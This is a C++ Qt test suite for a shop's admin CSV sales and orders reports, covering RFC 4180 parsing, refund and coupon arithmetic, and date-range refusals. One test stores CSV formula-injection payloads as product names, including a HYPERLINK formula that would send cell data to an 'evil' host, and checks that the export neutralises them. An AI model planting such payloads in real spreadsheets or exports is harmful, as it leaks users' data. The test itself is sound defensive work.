#include "ShopFixture.h"

#include <QtCore/QJsonArray>
#include <QtCore/QProcess>
#include <QtCore/QRandomGenerator>
#include <QtCore/QTemporaryDir>
#include <QtTest/QTest>

// The CSV reports (API.md, Reports) over real HTTP, parsed back by a parser of the
// test's own and by Python's csv module: RFC 4180 with commas, quotes, line breaks and
// Hangul in names, text that would run as a formula neutralised, sales in money paid
// net of refunds and cancels (every grouping adding up to the same totals), and the
// range's refusals as JSON errors.
class tst_Reports : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void salesReportByDay();
    void reportsByProductAndCategory();
    void ordersReportParsesBack();
    void salesInMoneyPaid();
    void formulasNeutralised_data();
    void formulasNeutralised();
    void reportRefusals_data();
    void reportRefusals();

private:
    static QList<QStringList> parseCsv(const QByteArray &csv, bool *wellFormed);
    static QList<QStringList> parseWithPython(const QByteArray &csv, QString *error);
    HttpClient::Reply admin(const QByteArray &method, const QString &path, const QByteArray &body = {});
    qint64 order(const ShopFixture::User &buyer, qint64 productId, int quantity);
    qint64 createProduct(const QString &name, qint64 price, qint64 categoryId);
    qint64 createCategory(const QString &name);
    QString today() const { return QDateTime::currentDateTimeUtc().date().toString(Qt::ISODate); }
    // The rows of a sales or orders report from the first day of this run to today.
    QList<QStringList> report(const QString &kind, const QString &by = QString());

    ShopFixture m_shop;
    ShopFixture::User m_buyer;
    QString m_firstDay; // today when the run started: every order of the run is since then
    // formulasNeutralised: products and a category whose names a spreadsheet would run,
    // bought by a shopper whose username starts with '-'.
    ShopFixture::User m_dashUser;
    QHash<QString, qint64> m_formulaProducts; // name → id
    qint64 m_formulaCategory = 0;
};


void tst_Reports::initTestCase()
{
    m_firstDay = today();
    QVERIFY(m_shop.start(4));
    m_buyer = m_shop.newShopper();
    QVERIFY(m_shop.charge(m_buyer, 10000000));

    // A username may start with '-' (API.md's pattern), and so may a product or category
    // name with = + - @; each is bought once, at 1,000 won a unit (5,000 for "-5000").
    const QByteArray password = "password-123";
    const QString dash = QStringLiteral("-csv_%1").arg(QRandomGenerator::global()->bounded(1000000));
    const QJsonObject credentials { { "username", dash }, { "password", QString::fromLatin1(password) } };
    const HttpClient::Reply registered = m_shop.client().post(QStringLiteral("/api/v1/auth/register"), credentials);
    QCOMPARE(registered.status, 201);
    m_dashUser.id = registered.json().value("id").toInteger();
    m_dashUser.username = dash;
    m_dashUser.token = m_shop.client().post(QStringLiteral("/api/v1/auth/login"), credentials).json().value("token").toString().toLatin1();
    QVERIFY(m_shop.charge(m_dashUser, 100000));
    m_formulaCategory = createCategory(QStringLiteral("@주방"));
    QVERIFY(m_formulaCategory > 0);
    const QStringList names { QStringLiteral("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"), QStringLiteral("=합계(A1)"),
                              QStringLiteral("+82 10-1234-5678"), QStringLiteral("-5000"), QStringLiteral("@SUM(A1:A9)"),
                              QStringLiteral("무선 이어폰 = 최고") };
    for (const QString &name : names) {
        const qint64 id = createProduct(name, name == QLatin1String("-5000") ? 5000 : 1000, m_formulaCategory);
        QVERIFY2(id > 0, qPrintable(name));
        m_formulaProducts.insert(name, id);
        QVERIFY(order(m_dashUser, id, 1) > 0);
    }
}

void tst_Reports::cleanupTestCase()
{
    const QString violations = m_shop.invariantViolations();
    QVERIFY2(violations.isEmpty(), qPrintable(violations));
    m_shop.stop();
}

HttpClient::Reply tst_Reports::admin(const QByteArray &method, const QString &path, const QByteArray &body)
{
    return m_shop.client().send(method, path, body, m_shop.admin().auth());
}

qint64 tst_Reports::order(const ShopFixture::User &buyer, qint64 productId, int quantity)
{
    const HttpClient::Reply r = m_shop.client().post(
            QStringLiteral("/api/v1/orders"),
            { { "userId", buyer.id }, { "items", QJsonArray { QJsonObject { { "productId", productId }, { "quantity", quantity } } } } },
            buyer.auth());
    return r.status == 201 ? r.json().value("id").toInteger() : 0;
}

qint64 tst_Reports::createProduct(const QString &name, qint64 price, qint64 categoryId)
{
    const HttpClient::Reply r =
            admin("POST", QStringLiteral("/api/v1/admin/products"),
                  QJsonDocument(QJsonObject { { "name", name }, { "price", price }, { "stock", 100 }, { "categoryId", categoryId } }).toJson());
    return r.status == 201 ? r.json().value("id").toInteger() : 0;
}

qint64 tst_Reports::createCategory(const QString &name)
{
    const HttpClient::Reply r = admin("POST", QStringLiteral("/api/v1/admin/categories"), QJsonDocument(QJsonObject { { "name", name } }).toJson());
    return r.status == 201 ? r.json().value("id").toInteger() : 0;
}

QList<QStringList> tst_Reports::report(const QString &kind, const QString &by)
{
    QString path = QStringLiteral("/api/v1/admin/reports/%1.csv?from=%2&to=%3").arg(kind, m_firstDay, today());
    if (!by.isEmpty())
        path += QStringLiteral("&by=") + by;
    const HttpClient::Reply r = admin("GET", path);
    bool wellFormed = false;
    const QList<QStringList> rows = parseCsv(r.body, &wellFormed);
    if (r.status != 200 || !wellFormed)
        qWarning() << path << r.status << r.body.left(300);
    return r.status == 200 && wellFormed ? rows : QList<QStringList> {};
}

// Python's csv module, the reader a data team would use: the bytes go to a file, Python
// prints the records as JSON.
QList<QStringList> tst_Reports::parseWithPython(const QByteArray &csv, QString *error)
{
    QTemporaryDir dir;
    QFile file(dir.filePath(QStringLiteral("report.csv")));
    if (!dir.isValid() || !file.open(QIODevice::WriteOnly) || file.write(csv) != csv.size()) {
        *error = QStringLiteral("could not write the CSV to a temporary file");
        return {};
    }
    file.close();
    QProcess python;
    python.start(QStringLiteral("python3"),
                 { QStringLiteral("-c"),
                   QStringLiteral("import csv,sys,json; print(json.dumps(list(csv.reader(open(sys.argv[1], newline=\"\", "
                                  "encoding=\"utf-8-sig\")))))"),
                   file.fileName() });
    if (!python.waitForFinished(60000) || python.exitStatus() != QProcess::NormalExit || python.exitCode() != 0) {
        *error = QStringLiteral("python3 failed: ") + QString::fromUtf8(python.readAllStandardError()) + python.errorString();
        return {};
    }
    QList<QStringList> records;
    for (const QJsonValue &record : QJsonDocument::fromJson(python.readAllStandardOutput()).array()) {
        QStringList cells;
        for (const QJsonValue &cell : record.toArray())
            cells << cell.toString();
        records << cells;
    }
    return records;
}

// RFC 4180, written here on purpose (not the server's writer): quoted fields may hold
// commas, doubled quotes and line breaks; records end with CRLF.
QList<QStringList> tst_Reports::parseCsv(const QByteArray &csv, bool *wellFormed)
{
    QList<QStringList> records;
    QStringList record;
    QByteArray field;
    bool quoted = false;
    bool wasQuoted = false;
    // Every report begins with UTF-8's byte-order mark (a Korean Excel needs it to read
    // UTF-8), which is no part of the first cell.
    *wellFormed = csv.startsWith("\xEF\xBB\xBF") && csv.endsWith("\r\n");
    for (qsizetype i = 3; i < csv.size(); ++i) {
        const char c = csv.at(i);
        if (quoted) {
            if (c == '"' && i + 1 < csv.size() && csv.at(i + 1) == '"') {
                field += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == '"') {
            if (!field.isEmpty())
                *wellFormed = false; // a quote inside an unquoted field
            quoted = wasQuoted = true;
        } else if (c == ',') {
            record << QString::fromUtf8(field);
            field.clear();
            wasQuoted = false;
        } else if (c == '\r' && i + 1 < csv.size() && csv.at(i + 1) == '\n') {
            record << QString::fromUtf8(field);
            records << record;
            record.clear();
            field.clear();
            wasQuoted = false;
            ++i;
        } else if (c == '\n' || c == '\r') {
            *wellFormed = false; // a bare line break outside quotes
        } else {
            if (wasQuoted)
                *wellFormed = false; // text after a closing quote
            field += c;
        }
    }
    if (quoted)
        *wellFormed = false;
    return records;
}

void tst_Reports::salesReportByDay()
{
    const ShopFixture::User shopper = m_shop.newShopper();
    QVERIFY(m_shop.charge(shopper, 100000));
    const qint64 product = m_shop.createProduct(QStringLiteral("Reported"), 1000, 100);
    const qint64 kept = order(shopper, product, 3);
    const qint64 cancelled = order(shopper, product, 1);
    QVERIFY(kept > 0 && cancelled > 0);
    QCOMPARE(m_shop.client().post(QStringLiteral("/api/v1/orders/%1/cancel").arg(cancelled), {}, shopper.auth()).status, 200);
    QCOMPARE(admin("POST", QStringLiteral("/api/v1/admin/orders/%1/refunds").arg(kept),
                   R"({"lines":[{"productId":)" + QByteArray::number(product) + R"(,"quantity":1}],"restock":true,"reason":"r"})")
                     .status,
             201);

    const QString from = QDateTime::currentDateTimeUtc().date().addDays(-2).toString(Qt::ISODate);
    const HttpClient::Reply r = admin("GET", QStringLiteral("/api/v1/admin/reports/sales.csv?from=%1&to=%2&by=day").arg(from, today()));
    QCOMPARE(r.status, 200);
    QCOMPARE(r.headers.value("content-type"), QByteArray("text/csv; charset=utf-8"));
    bool wellFormed = false;
    const QList<QStringList> rows = parseCsv(r.body, &wellFormed);
    QVERIFY2(wellFormed, r.body.left(300).constData());
    QCOMPARE(rows.first(), (QStringList { "date", "orders", "units", "unitsReturned", "paid", "refunded", "net" }));
    QCOMPARE(rows.size(), 4); // the header and three days
    const QStringList day = rows.last();
    QCOMPARE(day.at(0), today());
    // Every order of the day, straight from MySQL, against the report's row.
    const QString where = QStringLiteral(" FROM orders WHERE DATE(paid_at) = UTC_DATE()");
    QCOMPARE(day.at(1).toLongLong(), m_shop.scalar(QStringLiteral("SELECT SUM(status IN ('PAID', 'PARTIALLY_REFUNDED'))") + where));
    QCOMPARE(day.at(4).toLongLong(), m_shop.scalar(QStringLiteral("SELECT SUM(paid_amount)") + where));
    QCOMPARE(day.at(5).toLongLong(), m_shop.scalar(QStringLiteral("SELECT SUM(refunded_amount)") + where));
    QCOMPARE(day.at(6).toLongLong(), m_shop.scalar(QStringLiteral("SELECT SUM(paid_amount - refunded_amount)") + where));
    QVERIFY(day.at(5).toLongLong() >= 2000); // the cancel's 1,000 and the refund's 1,000
}

void tst_Reports::reportsByProductAndCategory()
{
    const HttpClient::Reply category = admin("POST", QStringLiteral("/api/v1/admin/categories"), R"({"name":"주방, \"Kitchen\""})");
    QCOMPARE(category.status, 201);
    const qint64 categoryId = category.json().value("id").toInteger();
    const HttpClient::Reply created = admin("POST", QStringLiteral("/api/v1/admin/products"),
                                            QStringLiteral(R"({"name":"냄비, 24cm \"deep\"","price":2500,"stock":50,"categoryId":%1})")
                                                    .arg(categoryId)
                                                    .toUtf8());
    QCOMPARE(created.status, 201);
    const qint64 pot = created.json().value("id").toInteger();
    const qint64 paid = order(m_buyer, pot, 4);
    QVERIFY(paid > 0);
    QCOMPARE(admin("POST", QStringLiteral("/api/v1/admin/orders/%1/refunds").arg(paid),
                   R"({"lines":[{"productId":)" + QByteArray::number(pot) + R"(,"quantity":1}],"restock":false,"reason":"dented"})")
                     .status,
             201);

    bool wellFormed = false;
    const HttpClient::Reply byProduct =
            admin("GET", QStringLiteral("/api/v1/admin/reports/sales.csv?from=%1&to=%1&by=product").arg(today()));
    QCOMPARE(byProduct.status, 200);
    const QList<QStringList> products = parseCsv(byProduct.body, &wellFormed);
    QVERIFY(wellFormed);
    QCOMPARE(products.first(), (QStringList { "productId", "name", "orders", "units", "unitsReturned", "gross", "refunded", "net" }));
    const auto row = std::find_if(products.cbegin(), products.cend(), [&](const QStringList &r) { return r.first() == QString::number(pot); });
    QVERIFY(row != products.cend());
    QCOMPARE(*row, (QStringList { QString::number(pot), QStringLiteral("냄비, 24cm \"deep\""), "1", "4", "1", "10000", "2500", "7500" }));

    const HttpClient::Reply byCategory =
            admin("GET", QStringLiteral("/api/v1/admin/reports/sales.csv?from=%1&to=%1&by=category").arg(today()));
    QCOMPARE(byCategory.status, 200);
    const QList<QStringList> categories = parseCsv(byCategory.body, &wellFormed);
    QVERIFY(wellFormed);
    const auto kitchen = std::find_if(categories.cbegin(), categories.cend(),
                                      [&](const QStringList &r) { return r.first() == QString::number(categoryId); });
    QVERIFY(kitchen != categories.cend());
    QCOMPARE(*kitchen, (QStringList { QString::number(categoryId), QStringLiteral("주방, \"Kitchen\""), "1", "4", "1", "10000", "2500", "7500" }));
}

void tst_Reports::ordersReportParsesBack()
{
    // A name with everything RFC 4180 must quote, and Hangul.
    const QString name = QStringLiteral("무선 이어폰, \"프로\"\r\n2세대");
    const HttpClient::Reply created = admin("POST", QStringLiteral("/api/v1/admin/products"),
                                            QJsonDocument(QJsonObject { { "name", name }, { "price", 1234 }, { "stock", 10 } }).toJson());
    QCOMPARE(created.status, 201);
    const qint64 product = created.json().value("id").toInteger();
    const qint64 first = order(m_buyer, product, 2);
    const qint64 second = order(m_buyer, product, 1);
    QVERIFY(first > 0 && second > 0);
    QCOMPARE(m_shop.client().post(QStringLiteral("/api/v1/orders/%1/cancel").arg(second), {}, m_buyer.auth()).status, 200);

    const HttpClient::Reply r = admin("GET", QStringLiteral("/api/v1/admin/reports/orders.csv?from=%1&to=%1").arg(today()));
    QCOMPARE(r.status, 200);
    QCOMPARE(r.headers.value("content-type"), QByteArray("text/csv; charset=utf-8"));
    bool wellFormed = false;
    const QList<QStringList> rows = parseCsv(r.body, &wellFormed);
    QVERIFY(wellFormed);
    // The time column names the shop's zone (--time-zone, Asia/Seoul by default).
    QCOMPARE(rows.first(), (QStringList { "orderId", "paidAt (Asia/Seoul)", "status", "userId", "username", "productId", "productName",
                                          "unitPrice", "quantity", "unitsReturned", "lineTotal", "orderPaid", "orderRefunded" }));
    // One row per order line of the day, every row as wide as the header.
    QCOMPARE(rows.size() - 1, int(m_shop.scalar(QStringLiteral("SELECT COUNT(*) FROM order_lines l JOIN orders o ON o.id = l.order_id "
                                                               "WHERE DATE(o.paid_at) = UTC_DATE()"))));
    for (const QStringList &row : rows)
        QCOMPARE(row.size(), 13);
    QStringList mine;
    for (const QStringList &row : rows) {
        if (row.at(0) == QString::number(first) || row.at(0) == QString::number(second)) {
            QCOMPARE(row.at(6), name);
            mine << row.at(0) + QLatin1Char(' ') + row.at(2) + QLatin1Char(' ') + row.at(8) + QLatin1Char(' ') + row.at(9);
        }
    }
    // States in words.
    QCOMPARE(mine, (QStringList { QStringLiteral("%1 Paid 2 0").arg(first), QStringLiteral("%1 Cancelled 1 1").arg(second) }));
    // Paid at: Seoul is UTC+9 all year (no summer time), to the second as stored.
    const QDateTime paidUtc = QDateTime::fromSecsSinceEpoch(
            m_shop.scalar(QStringLiteral("SELECT TIMESTAMPDIFF(SECOND, '1970-01-01 00:00:00', paid_at) FROM orders WHERE id = ?"), { first }),
            Qt::UTC);
    const auto firstRow = std::find_if(rows.cbegin(), rows.cend(), [&](const QStringList &row) { return row.at(0) == QString::number(first); });
    QVERIFY(firstRow != rows.cend());
    QCOMPARE(firstRow->at(1), paidUtc.addSecs(9 * 3600).toString(QStringLiteral("yyyy-MM-dd HH:mm:ss")));
}

void tst_Reports::salesInMoneyPaid()
{
    // Two lines of 10,000 won (A: 3 × 1,111, B: 1 × 6,667) with a 5,000-won coupon, one
    // unit of A refunded; then twice A + B (7,778) with a 1,000-won coupon: one with B
    // refunded, then cancelled; one with B refunded, then A (the refund of everything).
    // Worked out by hand with API.md's rule, floor(paid × price × units / total), the
    // last line by product id taking the rest of what was paid:
    //   order 1, paid 5,000: A floor(5000 × 3333 / 10000) = 1,666, B 5,000 − 1,666 = 3,334;
    //     refund of 1 A: floor(5000 × 1111 / 10000) = 555.
    //   orders 2 and 3, paid 6,778 each: A floor(6778 × 1111 / 7778) = 968, B 6,778 − 968
    //     = 5,810; refund of B: floor(6778 × 6667 / 7778) = 5,809; the cancel (order 2)
    //     and the refund of A (order 3) return the rest, 969: A what is left of its 968,
    //     B the other 1, so each line of a wholly returned order nets 0.
    //   A: units 5, returned 3 (1 refunded, 1 cancelled, 1 refunded), gross 1,666 + 968
    //      + 968 = 3,602, refunded 555 + 968 + 968 = 2,491, net 1,111; 1 order standing.
    //   B: units 3, returned 2, gross 3,334 + 5,810 + 5,810 = 14,954, refunded 5,810 +
    //      5,810 = 11,620, net 3,334.
    //   Their category: 1 order standing, units 8, returned 5, gross 18,556 (what was
    //   paid), refunded 14,111 (555 + 6,778 + 6,778), net 4,445.
    const ShopFixture::User shopper = m_shop.newShopper();
    QVERIFY(m_shop.charge(shopper, 100000));
    const qint64 category = createCategory(QStringLiteral("쿠폰 나눔"));
    const qint64 a = createProduct(QStringLiteral("쿠폰 상품 A"), 1111, category);
    const qint64 b = createProduct(QStringLiteral("쿠폰 상품 B"), 6667, category);
    QVERIFY(category > 0 && a > 0 && b > 0 && a < b);
    const auto claim = [&](qint64 value) -> qint64 {
        const qint64 coupon = m_shop.createCoupon(QStringLiteral("FIXED"), value, 1);
        const HttpClient::Reply issued =
                m_shop.client().post(QStringLiteral("/api/v1/coupons/%1/issue").arg(coupon), { { "userId", shopper.id } }, shopper.auth());
        return issued.status == 201 ? issued.json().value("id").toInteger() : 0;
    };
    const auto buy = [&](const QList<QPair<qint64, int>> &lines, qint64 userCouponId) -> QJsonObject {
        QJsonArray items;
        for (const auto &[product, quantity] : lines)
            items.append(QJsonObject { { "productId", product }, { "quantity", quantity } });
        const HttpClient::Reply r = m_shop.client().post(
                QStringLiteral("/api/v1/orders"), { { "userId", shopper.id }, { "items", items }, { "userCouponId", userCouponId } },
                shopper.auth());
        return r.status == 201 ? r.json() : QJsonObject {};
    };
    const auto refund = [&](qint64 orderId, qint64 product) {
        return admin("POST", QStringLiteral("/api/v1/admin/orders/%1/refunds").arg(orderId),
                     R"({"lines":[{"productId":)" + QByteArray::number(product) + R"(,"quantity":1}],"restock":true,"reason":"r"})")
                .json();
    };

    const QJsonObject first = buy({ { a, 3 }, { b, 1 } }, claim(5000));
    QCOMPARE(first.value("totalAmount").toInteger(), 10000);
    QCOMPARE(first.value("paidAmount").toInteger(), 5000);
    QCOMPARE(refund(first.value("id").toInteger(), a).value("refundedAmount").toInteger(), 555);
    const QJsonObject second = buy({ { a, 1 }, { b, 1 } }, claim(1000));
    QCOMPARE(second.value("paidAmount").toInteger(), 6778);
    QCOMPARE(refund(second.value("id").toInteger(), b).value("refundedAmount").toInteger(), 5809);
    QCOMPARE(m_shop.client().post(QStringLiteral("/api/v1/orders/%1/cancel").arg(second.value("id").toInteger()), {}, shopper.auth()).status,
             200);
    const QJsonObject third = buy({ { a, 1 }, { b, 1 } }, claim(1000));
    QCOMPARE(third.value("paidAmount").toInteger(), 6778);
    QCOMPARE(refund(third.value("id").toInteger(), b).value("refundedAmount").toInteger(), 5809);
    const QJsonObject refunded = refund(third.value("id").toInteger(), a);
    QCOMPARE(refunded.value("refundedAmount").toInteger(), 6778);
    QCOMPARE(refunded.value("status").toString(), QStringLiteral("REFUNDED"));

    const QList<QStringList> products = report(QStringLiteral("sales"), QStringLiteral("product"));
    const QList<QStringList> categories = report(QStringLiteral("sales"), QStringLiteral("category"));
    const QList<QStringList> days = report(QStringLiteral("sales"), QStringLiteral("day"));
    QVERIFY(!products.isEmpty() && !categories.isEmpty() && !days.isEmpty());
    const auto row = [](const QList<QStringList> &rows, qint64 key) {
        const auto found = std::find_if(rows.cbegin(), rows.cend(), [&](const QStringList &r) { return r.first() == QString::number(key); });
        return found == rows.cend() ? QStringList {} : *found;
    };
    QCOMPARE(row(products, a), (QStringList { QString::number(a), QStringLiteral("쿠폰 상품 A"), "1", "5", "3", "3602", "2491", "1111" }));
    QCOMPARE(row(products, b), (QStringList { QString::number(b), QStringLiteral("쿠폰 상품 B"), "1", "3", "2", "14954", "11620", "3334" }));
    // The two lines of order 1 count it once.
    QCOMPARE(row(categories, category),
             (QStringList { QString::number(category), QStringLiteral("쿠폰 나눔"), "1", "8", "5", "18556", "14111", "4445" }));

    // Every grouping of the period, every order of this run in it (other tests' too:
    // cancels, refunds, no coupon), adds up to the same units, gross, refunds and net.
    // Columns: units, unitsReturned, gross (paid), refunded, net.
    const auto totals = [](const QList<QStringList> &rows, int units) {
        QList<qint64> sum(5, 0);
        for (qsizetype i = 1; i < rows.size(); ++i)
            for (int c = 0; c < 5; ++c)
                sum[c] += rows.at(i).at(units + c).toLongLong();
        return sum;
    };
    const QList<qint64> byDay = totals(days, 2);
    QCOMPARE(totals(products, 3), byDay);
    QCOMPARE(totals(categories, 3), byDay);
    QVERIFY(byDay.at(2) >= 18556 && byDay.at(3) >= 14111);
}

void tst_Reports::formulasNeutralised_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("by");
    QTest::addColumn<int>("keyColumn");
    QTest::addColumn<qint64>("key");
    QTest::addColumn<QStringList>("expected"); // the row from keyColumn + 1 on, as Python reads it

    const auto id = [this](const char *name) { return m_formulaProducts.value(QString::fromUtf8(name)); };
    const QString dash = QLatin1Char('\'') + m_dashUser.username;
    // orders.csv from productId on: productId, productName, unitPrice, quantity,
    // unitsReturned, lineTotal, orderPaid, orderRefunded; username is two cells before.
    QTest::newRow("orders.csv: =HYPERLINK")
            << "orders" << QString() << 5 << id("=HYPERLINK(\"http://evil/?\"&A1,\"x\")")
            << QStringList { "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "1000", "1", "0", "1000", "1000", "0" };
    QTest::newRow("orders.csv: = Hangul") << "orders" << QString() << 5 << id("=합계(A1)")
                                          << QStringList { QStringLiteral("'=합계(A1)"), "1000", "1", "0", "1000", "1000", "0" };
    QTest::newRow("orders.csv: +") << "orders" << QString() << 5 << id("+82 10-1234-5678")
                                   << QStringList { "'+82 10-1234-5678", "1000", "1", "0", "1000", "1000", "0" };
    // A name that reads as a negative number is text; the money beside it stays numbers.
    QTest::newRow("orders.csv: -5000") << "orders" << QString() << 5 << id("-5000")
                                       << QStringList { "'-5000", "5000", "1", "0", "5000", "5000", "0" };
    QTest::newRow("orders.csv: @") << "orders" << QString() << 5 << id("@SUM(A1:A9)")
                                   << QStringList { "'@SUM(A1:A9)", "1000", "1", "0", "1000", "1000", "0" };
    QTest::newRow("orders.csv: Hangul left as is") << "orders" << QString() << 5 << id("무선 이어폰 = 최고")
                                                    << QStringList { QStringLiteral("무선 이어폰 = 최고"), "1000", "1", "0", "1000", "1000", "0" };
    // The cell after userId: the username, which starts with '-'.
    QTest::newRow("orders.csv: username -") << "orders" << QString() << 3 << m_dashUser.id << QStringList { dash };
    // sales.csv by product / category from the id on: name, orders, units,
    // unitsReturned, gross, refunded, net.
    QTest::newRow("by product: =HYPERLINK")
            << "sales" << "product" << 0 << id("=HYPERLINK(\"http://evil/?\"&A1,\"x\")")
            << QStringList { "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "1", "1", "0", "1000", "0", "1000" };
    QTest::newRow("by product: -5000") << "sales" << "product" << 0 << id("-5000")
                                       << QStringList { "'-5000", "1", "1", "0", "5000", "0", "5000" };
    QTest::newRow("by product: Hangul") << "sales" << "product" << 0 << id("무선 이어폰 = 최고")
                                        << QStringList { QStringLiteral("무선 이어폰 = 최고"), "1", "1", "0", "1000", "0", "1000" };
    QTest::newRow("by category: @주방") << "sales" << "category" << 0 << m_formulaCategory
                                        << QStringList { QStringLiteral("'@주방"), "6", "6", "0", "10000", "0", "10000" };
}

void tst_Reports::formulasNeutralised()
{
    QFETCH(QString, kind);
    QFETCH(QString, by);
    QFETCH(int, keyColumn);
    QFETCH(qint64, key);
    QFETCH(QStringList, expected);

    QString path = QStringLiteral("/api/v1/admin/reports/%1.csv?from=%2&to=%3").arg(kind, m_firstDay, today());
    if (!by.isEmpty())
        path += QStringLiteral("&by=") + by;
    const HttpClient::Reply r = admin("GET", path);
    QCOMPARE(r.status, 200);
    QString error;
    const QList<QStringList> python = parseWithPython(r.body, &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    // Python reads exactly the records this test's own RFC 4180 parser reads.
    bool wellFormed = false;
    QCOMPARE(python, parseCsv(r.body, &wellFormed));
    QVERIFY(wellFormed);
    const auto row = std::find_if(python.cbegin(), python.cend(), [&](const QStringList &cells) {
        return cells.size() > keyColumn && cells.at(keyColumn) == QString::number(key);
    });
    QVERIFY2(row != python.cend(), qPrintable(QString::number(key)));
    QCOMPARE(row->mid(keyColumn + 1, expected.size()), expected);
}

void tst_Reports::reportRefusals_data()
{
    QTest::addColumn<QString>("query");
    QTest::newRow("no dates") << QStringLiteral("sales.csv");
    QTest::newRow("no to") << QStringLiteral("sales.csv?from=2026-01-01");
    QTest::newRow("not a date") << QStringLiteral("orders.csv?from=2026-13-01&to=2026-12-31");
    QTest::newRow("to before from") << QStringLiteral("orders.csv?from=2026-02-01&to=2026-01-31");
    QTest::newRow("367 days") << QStringLiteral("orders.csv?from=2025-01-01&to=2026-01-02");
    QTest::newRow("unknown grouping") << QStringLiteral("sales.csv?from=2026-01-01&to=2026-01-31&by=week");
}

void tst_Reports::reportRefusals()
{
    QFETCH(QString, query);
    const HttpClient::Reply r = admin("GET", QStringLiteral("/api/v1/admin/reports/") + query);
    QCOMPARE(r.status, 400);
    QCOMPARE(r.errorCode(), QStringLiteral("VALIDATION_FAILED"));
    QVERIFY(r.headers.value("content-type").startsWith("application/json"));
    // 366 days is the most, and allowed (2024 was a leap year).
    QCOMPARE(admin("GET", QStringLiteral("/api/v1/admin/reports/orders.csv?from=2024-01-01&to=2024-12-31")).status, 200);
    QCOMPARE(m_shop.client().get(QStringLiteral("/api/v1/admin/reports/orders.csv?from=2024-01-01&to=2024-12-31"), m_buyer.auth()).status,
             403);
}

QTEST_GUILESS_MAIN(tst_Reports)
#include "tst_reports.moc"
